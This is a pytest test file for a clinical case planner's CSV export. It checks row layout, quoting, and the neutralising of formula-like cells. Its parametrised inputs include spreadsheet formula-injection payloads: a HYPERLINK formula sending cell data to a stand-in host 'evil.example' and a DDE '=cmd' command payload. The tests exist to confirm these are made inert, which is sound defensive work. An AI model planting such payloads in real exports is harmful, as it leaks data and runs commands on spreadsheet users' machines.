"""CSV export: a header, one row per record and entry, and cells a spreadsheet would run as formulas made inert."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from factories import followed_up_case

from rtw_planner.domain.case.model import Case
from rtw_planner.domain.case.outcome_records import OutcomeRecord, PracticeEntry
from rtw_planner.domain.outcomes.csv_export import COLUMNS, csv_text, inert, rows

DAY = date(2026, 11, 20)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def case_with(*records: OutcomeRecord, log: tuple[PracticeEntry, ...] = ()) -> Case:
    return Case("A. Patient", outcomes=records, practice_log=log)


def noted(note: str) -> str:
    """The notes cell as exported for one PSFS record with this note."""
    table = read(csv_text(case_with(OutcomeRecord("PSFS", DAY, (4, 5, 3), 4.0, None, note))))
    return table[1][COLUMNS.index("notes")]


def test_header_and_one_row_per_record_and_entry() -> None:
    case = followed_up_case()
    table = read(csv_text(case))
    assert table[0] == list(COLUMNS)
    assert len(table) == 1 + len(case.outcomes) + len(case.practice_log) == 15
    assert all(len(row) == len(COLUMNS) for row in table)
    assert [row[0] for row in table[1:]] == ["outcome"] * 10 + ["practice"] * 4
    assert table[1] == ["outcome", "2026-09-25", "PEG", "7.0", "", "", "7 6 8", ""]
    assert table[2][-1] == "Walk the dog; stand to cook; lift shopping"
    assert table[3][2:5] == ["TSK-17", "55.0", "high kinesiophobia"]
    assert table[-1] == ["practice", "2026-11-26", "Walking", "4.0", "8.0", "no", "", ""]
    assert table[-2][5] == "yes"


def test_rows_are_oldest_first_within_each_kind() -> None:
    later = OutcomeRecord("PEG", date(2026, 12, 1), (7, None, 8), None)
    earlier = OutcomeRecord("PEG", DAY, (1.5, 2, 3), 2.1666)
    log = (PracticeEntry(date(2026, 12, 3), "Walking", None, None, False), PracticeEntry(DAY, "Walking", 8, 9, True))
    out = rows(case_with(later, earlier, log=log))
    assert [(r[0], r[1]) for r in out] == [("outcome", "2026-11-20"), ("outcome", "2026-12-01"),
                                           ("practice", "2026-11-20"), ("practice", "2026-12-03")]
    assert out[0][6] == "1.5 2 3"
    assert out[1][6] == "7 - 8"  # a missing answer is written as -
    table = read(csv_text(case_with(later, earlier, log=log)))
    assert table[2][3] == ""  # no score
    assert table[4][3:6] == ["", "", "no"]


def test_an_empty_case_is_the_header_alone() -> None:
    assert csv_text(Case("A. Patient")) == ",".join(COLUMNS) + "\n"


@pytest.mark.parametrize("note", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "@SUM(A1:A9)", "-2+3",
                                  "=1+1", "=", "-", "+", "@", "-2,5"])
def test_formula_looking_notes_get_an_apostrophe(note: str) -> None:
    assert noted(note) == "'" + note


def test_only_plain_numbers_go_without_the_apostrophe() -> None:
    # float() also reads these, but a spreadsheet does not see a plain number in them: "-inf" runs as a formula
    # (a name), and a tab or return before the number is exactly what the rule is there to catch.
    lenient = ["-inf", "-nan", "-1_000", "+infinity", "\t1", "\r-2"]
    assert {cell: inert(cell) for cell in lenient} == {cell: "'" + cell for cell in lenient}


@pytest.mark.parametrize("note", ["-2.5", "-2", "-0.125", "2.5", "text with = inside", "1e3"])
def test_plain_numbers_and_ordinary_text_stay(note: str) -> None:
    assert noted(note) == note


def test_commas_quotes_and_line_breaks_survive() -> None:
    note = 'Walk the dog, "slowly"; stand to cook\nlift shopping, 5 kg'
    assert noted(note) == note
    assert '"Walk the dog, ""slowly""' in csv_text(case_with(OutcomeRecord("PSFS", DAY, (), None, None, note)))


def test_every_column_is_made_inert() -> None:
    record = OutcomeRecord("PSFS", DAY, (-1, 2), -2.5, "=band", "")
    entry = PracticeEntry(DAY, "@Walking", None, 3, True)
    table = read(csv_text(case_with(record, log=(entry,))))
    assert table[1][3:5] == ["-2.5", "'=band"]
    assert table[1][6] == "'-1 2"
    assert table[2][2] == "'@Walking"


@pytest.mark.parametrize(("cell", "expected"), [
    (None, ""), (-2.5, "-2.5"), (7.0, "7.0"), ("\t=1", "'\t=1"), ("\r=cmd", "'\r=cmd"), ("\tx", "'\tx"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("a=b", "a=b"),
])
def test_inert_cells(cell: object, expected: str) -> None:
    assert inert(cell) == expected
